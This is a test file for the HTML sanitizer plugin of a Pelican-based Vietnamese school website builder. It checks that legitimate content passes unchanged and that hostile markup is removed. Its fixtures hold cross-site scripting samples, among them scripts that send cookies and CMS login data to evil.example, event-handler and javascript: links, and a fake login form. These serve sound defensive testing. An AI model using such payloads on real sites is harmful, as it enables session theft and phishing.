"""Body HTML allowlist (plugins/sanitize_html): the policy on its own, and in
real builds of the demo school (nothing legitimate changes) and of hostile
content (cold and warm builds)."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import markdown
import pytest
from pelican.log import LimitFilter

# tests/helpers.py, and htmltools.py next to this file (also if this folder becomes a package)

from helpers import DEMO_CONTENT, TEST_SITE, build_site, read
from htmltools import elements, inner_html
from truongweb.plugins.images.markup import Picture, picture_html
from truongweb.plugins.images.pipeline import ProcessedImage, Variant
from truongweb.plugins.sanitize_html.policy import equivalent, removed_parts, sanitize
from truongweb.build import build

MARKDOWN = {"extensions": ["extra", "truongweb.plugins.vietnamese.headings"], "output_format": "html5"}


def md(text: str) -> str:
    return markdown.markdown(text, **MARKDOWN)


# --- The policy -------------------------------------------------------------

LEGITIMATE = """# Đại hội Liên đội nhiệm kỳ 2025–2026

Đoạn có **đậm**, *nghiêng*, `mã`, [liên kết]({filename}/pages/lien-he.md),
[ngoài](https://moet.gov.vn/?a=1&b=2 "Bộ GD&ĐT"), <mailto:c2@phutho.edu.vn>,
~~gạch~~ và chú thích[^1]. HTML viết tắt.

*[HTML]: Ngôn ngữ đánh dấu siêu văn bản

## Bảng điểm {: #bang-diem .bang }

| Lớp | Sĩ số |
|-----|-------|
| 6A  | 35    |

Thuật ngữ
:   Định nghĩa của thuật ngữ.

![Ảnh hội trường]({static}/images/2025/hoi-truong.jpg "Hội trường")

```python
print("<script>")  # code is text
```

> Trích dẫn
> nhiều dòng

1. một
2. hai

***

<figure><img src="{static}/images/a.jpg" alt="Ảnh"><figcaption>Chú thích ảnh</figcaption></figure>

<details><summary>Xem thêm</summary>Nội dung ẩn.</details>

[^1]: Nội dung chú thích.
"""


def _picture():
    img = ProcessedImage(
        source="images/2025/a.jpg", original="images/2025/a.jpg", width=1600, height=1067,
        variants=[Variant(path=f"images/2025/a-{w}.{ext}", width=w, height=w * 2 // 3, mime=mime)
                  for w in (480, 800, 1200)
                  for ext, mime in (("webp", "image/webp"), ("jpg", "image/jpeg"))],
        cached=True)
    return Picture.from_processed(img, "Ảnh", "/")


def test_project_markdown_passes_byte_for_byte():
    html = md(LEGITIMATE)
    # the markup the test relies on is really there
    for needle in ('id="dai-hoi-lien-doi-nhiem-ky-2025-2026"', 'class="footnote"', "<abbr",
                   "<dl>", "<table>", "<figure>", "<details>", '{static}/images/a.jpg',
                   'href="{filename}/pages/lien-he.md"', "&lt;script&gt;"):
        assert needle in html
    result = sanitize(html)
    assert result.removed == []
    assert result.html == html


def test_images_plugin_markup_passes():
    pic = _picture()
    html = "<p>" + picture_html(pic, [("alt", "Ảnh"), ("title", "t")], eager=False) + "</p>"
    assert "<picture><source" in html and 'loading="lazy"' in html and "srcset=" in html
    result = sanitize(html)
    assert result.removed == []
    assert result.html == html


HOSTILE = [
    ("<p>Chào<script>fetch('https://evil.example/?c='+document.cookie)</script></p>",
     ["thẻ <script>"], "<p>Chào</p>"),
    ('<p onclick="steal()">Bấm</p>', ["thuộc tính onclick"], "<p>Bấm</p>"),
    ('<img src="{static}/images/a.jpg" alt="a" onerror="steal()">', ["thuộc tính onerror"],
     '<img src="{static}/images/a.jpg" alt="a">'),
    ('<a href="javascript:steal()">Xem</a>', ["liên kết javascript:"], "<a>Xem</a>"),
    ('<a href=" JaVa&#x09;ScRipt:steal()">Xem</a>', ["liên kết javascript:"], "<a>Xem</a>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">Xem</a>', ["liên kết data:"], "<a>Xem</a>"),
    ('<a href="//evil.example/">Xem</a>', ["liên kết không ghi giao thức //…"], "<a>Xem</a>"),
    ('<form action="https://evil.example/login"><input name="pw"><button>Gửi</button></form>',
     ["thẻ <form>", "thẻ <input>", "thẻ <button>"], "Gửi"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ["thẻ <meta>"], ""),
    ('<iframe src="https://www.youtube.com/embed/x"></iframe>', ["thẻ <iframe>"], ""),
    ('<p style="background:url(https://evil.example/t.gif)">Chữ</p>', ["thuộc tính style"],
     "<p>Chữ</p>"),
    ("<style>body{background:url(https://evil.example/t.gif)}</style><p>a</p>", ["thẻ <style>"],
     "<p>a</p>"),
    ('<svg><script>steal()</script></svg>', ["thẻ <svg>", "thẻ <script>"], ""),
    ('<object data="x.swf"></object><embed src="x.swf">', ["thẻ <object>", "thẻ <embed>"], ""),
    ('<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">',
     ["thẻ <base>", "thẻ <link>"], ""),
    ('<img src="a.jpg" alt="" srcset="https://evil.example/t.gif 1x, javascript:x 2x">',
     ["liên kết javascript: (trong srcset)"], '<img src="a.jpg" alt="">'),
    ('<video poster="https://evil.example/p.jpg"><source src="v.mp4"></video>',
     ["thẻ <video>", "thuộc tính src"], '<source>'),
    ("<p>a</p><!-- <script>x()</script> -->", ["chú thích HTML <!-- -->"], "<p>a</p>"),
]


@pytest.mark.parametrize("fragment, removed, expected", HOSTILE)
def test_hostile_fragment_is_cleaned_and_named(fragment, removed, expected):
    result = sanitize(fragment)
    assert result.removed == removed
    assert equivalent(result.html, expected), result.html
    assert removed_parts(result.html) == []  # what is left would pass again


def test_attr_list_cannot_add_event_handlers():
    html = md('## Tiêu đề {: onclick="steal()" style="color:red" }\n\nChữ\n{: onmouseover="x()" }')
    assert "onclick" in html  # Markdown itself lets it through
    result = sanitize(html)
    assert result.removed == ["thuộc tính onclick", "thuộc tính style", "thuộc tính onmouseover"]
    tags = elements(result.html).elements
    assert all(not k.startswith("on") and k != "style" for _, a in tags for k in a)
    assert ("h2", {"id": "tieu-de"}) in tags


def test_table_alignment_becomes_a_class_the_csp_allows():
    html = md("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert 'style="text-align: center;"' in html
    result = sanitize(html)
    assert result.removed == []
    assert "style=" not in result.html
    classes = [a.get("class") for t, a in elements(result.html).elements if t in ("th", "td")]
    assert classes == ["align-left", "align-center", "align-right"] * 2
    assert ".align-center" in read(Path(__file__).parents[2] / "theme/static/css/site.css")


# --- Real builds --------------------------------------------------------------

def _bodies(output: Path):
    for path in sorted(output.rglob("index.html")):
        html = read(path)
        for css in ("article__body", "page"):
            body = inner_html(html, css)
            if body is not None:
                yield path.relative_to(output).as_posix(), body
                break


@pytest.mark.parametrize("content", [DEMO_CONTENT, TEST_SITE], ids=["demo", "test-site"])
def test_real_sites_are_untouched(tmp_path, content):
    """Nothing the demo or the tests' site writes is removed, and the written
    article bodies (after plugins/images made <picture>s of them) pass the
    policy unchanged."""
    report = build(tmp_path / "output", content=content, cache=tmp_path / "cache", echo=False)
    assert not [w for w in report.warnings if "mã HTML không được phép" in w]
    bodies = dict(_bodies(tmp_path / "output"))
    assert len(bodies) > 10
    pictures = 0
    for where, body in bodies.items():
        result = sanitize(body)
        assert result.removed == [], where
        assert result.html == body, where
        pictures += body.count("<picture>")
    if content == DEMO_CONTENT:
        assert pictures > 0


HOSTILE_ARTICLE = """---
title: Bài có mã độc
date: 2025-09-12 07:30
category: Thông báo
author: Nguyễn Văn A
summary: 'Tóm tắt <img src="x" onerror="steal()">'
---

Mở đầu.

<script>fetch("https://evil.example/?" + localStorage.getItem("sveltia-cms.user"))</script>

<p onclick="steal()">Bấm vào đây</p>

[Xem](javascript:steal())

<form action="https://evil.example/login"><input name="pw"></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<iframe src="https://www.youtube.com/embed/x"></iframe>

<div style="background:url(https://evil.example/t.gif)">Nền</div>

Kết thúc.
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    content = tmp / "content"
    shutil.copytree(TEST_SITE, content)
    (content / "articles" / "ma-doc.md").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    return tmp, content


def _warnings_about(report, name):
    return [w for w in report.warnings if name in w and "mã HTML không được phép" in w]


def test_hostile_article_cold_and_warm(hostile_site):
    tmp, content = hostile_site
    for run in ("cold", "warm"):
        # Pelican drops a warning it already logged in this process; a user's
        # second build is a new process.
        LimitFilter._raised_messages.clear()
        report = build(tmp / "output", content=content, cache=tmp / "cache", echo=False)
        warned = _warnings_about(report, "ma-doc.md")
        assert len(warned) == 1, (run, report.warnings)
        for part in ("thẻ <script>", "thuộc tính onclick", "liên kết javascript:", "thẻ <form>",
                     "thẻ <meta>", "thẻ <iframe>", "thuộc tính style", "thuộc tính onerror"):
            assert part in warned[0], (run, part)
        assert "articles/ma-doc.md" in warned[0]
        page = next((tmp / "output").rglob("bai-co-ma-doc/index.html"))
        parsed = elements(read(page))
        body = inner_html(read(page), "article__body")
        assert "Bấm vào đây" in body and "Kết thúc." in body
        assert not any(k.startswith("on") for _, a in parsed.elements for k in a), run
        assert not [t for t, a in elements(body).elements if t in ("form", "iframe", "input")]
        assert not [a for t, a in parsed.elements if t == "meta" and "http-equiv" in a
                    and a["http-equiv"].lower() == "refresh"]
        assert "evil.example" not in read(page)
        for _, text in parsed.scripts:
            assert "evil.example" not in text
    # the warm build really came from Pelican's content cache
    assert (tmp / "cache" / "sanitize-html.json").is_file()


def test_fixed_file_stops_warning_also_when_parallel_read_converts_it(tmp_path, monkeypatch):
    """A fixed article read again by parallel_read's forked child (which
    bypasses this process's reader) no longer warns, then or later."""
    from truongweb.plugins.speed import parallel_read
    content = tmp_path / "content"
    shutil.copytree(TEST_SITE, content)
    article = content / "articles" / "ma-doc.md"
    article.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    LimitFilter._raised_messages.clear()
    report = build(tmp_path / "output", content=content, cache=tmp_path / "cache", echo=False)
    assert _warnings_about(report, "ma-doc.md")
    fixed = HOSTILE_ARTICLE.split("Mở đầu.")[0].replace(' <img src="x" onerror="steal()">', "")
    article.write_text(fixed + "Đã sửa.\n", encoding="utf-8")
    monkeypatch.setattr(parallel_read, "MIN_FILES", 1)  # fork for the one changed file
    for run in ("child", "warm"):
        LimitFilter._raised_messages.clear()
        report = build(tmp_path / "output", content=content, cache=tmp_path / "cache",
                       echo=False)
        assert not _warnings_about(report, "ma-doc.md"), (run, report.warnings)
    assert "Đã sửa." in read(next((tmp_path / "output").rglob("bai-co-ma-doc/index.html")))
